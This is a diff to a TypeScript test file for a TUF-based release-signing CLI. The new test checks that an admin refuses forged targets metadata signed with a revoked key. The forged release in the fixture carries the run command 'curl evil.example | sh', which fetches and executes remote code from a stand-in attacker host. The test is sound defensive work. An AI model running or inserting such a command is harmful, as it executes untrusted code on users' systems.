@@ -6,14 +6,16 @@
 import { execFileSync } from "node:child_process";
 import { readdir, readFile, writeFile } from "node:fs/promises";
 import { join } from "node:path";
-import { Metadata, MetadataKind, type Root } from "@tufjs/models";
+import { Metadata, MetadataKind, Signature, type Root, type Targets } from "@tufjs/models";
 import { nextRoot, signMetadata } from "@flotilla/cli/testing";
-import { loadIdentity } from "@flotilla/protocol";
+import { loadIdentity, tufKeyId } from "@flotilla/protocol";
 import { describe, expect, it } from "vitest";
 import { artifact, createRelease, signedFleet, tufDir } from "./support/releases.ts";
 import { useSandbox } from "./support/use-sandbox.ts";
 
 const sb = useSandbox();
+
+const latestTargets = async (dir: string) => Math.max(...(await readdir(dir)).map((f) => /^(\d+)\.targets\.json$/.exec(f)?.[1]).filter((v) => v !== undefined).map(Number));
 
 const metadataFiles = async (dir: string) => (await readdir(dir)).filter((f) => /^\d+\.(root|targets)\.json$/.test(f)).sort();
 
@@ -34,8 +36,50 @@ describe("the admin's trust in the organization's signing root", () => {
     const r = await fleet.admin(["release", "create", (await artifact(dir, "next.tar.gz", 10_000)).path, "--name", "app", "--version", "1.0.1", "--run", "bin/app"]);
     expect(r.code).toBe(1);
     expect(r.stderr.trim().split("\n")).toEqual([
-      "error: the organization's targets metadata (version 2) is not signed by the threshold of any root version this admin verified: refusing to sign on top of it",
+      "error: the organization's targets metadata (version 2) is not signed by the threshold of the current root (version 1) this admin verified: refusing to sign on top of it",
     ]);
+    expect(await metadataFiles(repo)).toEqual(before);
+    expect((await fleet.adminJson<{ version: string }[]>(["release", "ls"])).map((x) => x.version)).toEqual(["1.0.0"]);
+  });
+
+  it("refuses targets signed only by a key the admins removed from the root, which a compromised coordinator presents", async () => {
+    const fleet = await signedFleet(sb);
+    const dir = await sb.dir();
+    const owner = join(fleet.adminHome, "admin.key");
+    // Two signing keys, threshold 1: the owner's, and a second one that later leaks.
+    execFileSync("ssh-keygen", ["-q", "-t", "ed25519", "-N", "", "-f", join(dir, "leaked")]);
+    const leaked = await loadIdentity(join(dir, "leaked"));
+    const leakedId = tufKeyId(leaked.publicKey);
+    const add = await fleet.admin(["signing-key", "add", "--key-file", owner, "--key-file", join(dir, "leaked")]);
+    expect(add.code, add.stderr).toBe(0);
+    await createRelease(fleet, (await artifact(dir, "app.tar.gz", 10_000)).path, "app", "1.0.0");
+    // The leaked key is removed from the root.
+    const remove = await fleet.admin(["signing-key", "add", "--remove", leakedId]);
+    expect(remove.code, remove.stderr).toBe(0);
+    expect(remove.stdout).toMatch(/^root version 3: 1 signing keys, threshold 1; targets re-signed under it as version 4$/m);
+    expect((await fleet.adminJson<{ version: number; keys: { keyId: string }[] }>(["signing-key", "ls"])).keys.map((k) => k.keyId)).not.toContain(leakedId);
+
+    // The coordinator, holding the leaked key, presents new targets with a release of its own,
+    // signed by the leaked key alone.
+    const repo = await tufDir(fleet);
+    const v = await latestTargets(repo);
+    const current = Metadata.fromJSON(MetadataKind.Targets, JSON.parse(await readFile(join(repo, `${v}.targets.json`), "utf8"))) as Metadata<Targets>;
+    type Entry = { custom: { flotilla: Record<string, unknown> } };
+    const json = current.signed.toJSON() as { targets: Record<string, Entry> };
+    const [[path, entry]] = Object.entries(json.targets) as [[string, Entry]];
+    const forged = Metadata.fromJSON(MetadataKind.Targets, {
+      signatures: [],
+      signed: { ...json, version: v + 1, targets: { ...json.targets, [path.replace("app/1/", "app/2/")]: { ...entry, custom: { flotilla: { ...entry.custom.flotilla, counter: 2, run: "curl evil.example | sh" } } } } },
+    } as never);
+    forged.sign((data) => new Signature({ keyID: leakedId, sig: Buffer.from(leaked.sign(data)).toString("hex") }));
+    await writeFile(join(repo, `${v + 1}.targets.json`), JSON.stringify(forged.toJSON()));
+    const before = await metadataFiles(repo);
+
+    const r = await fleet.admin(["release", "create", (await artifact(dir, "next.tar.gz", 10_000)).path, "--name", "app", "--version", "1.0.1", "--run", "bin/app"]);
+    expect(r.stderr.trim().split("\n")).toEqual([
+      `error: the organization's targets metadata (version ${v + 1}) is not signed by the threshold of the current root (version 3) this admin verified: refusing to sign on top of it`,
+    ]);
+    expect(r.code).toBe(1);
     expect(await metadataFiles(repo)).toEqual(before);
     expect((await fleet.adminJson<{ version: string }[]>(["release", "ls"])).map((x) => x.version)).toEqual(["1.0.0"]);
   });
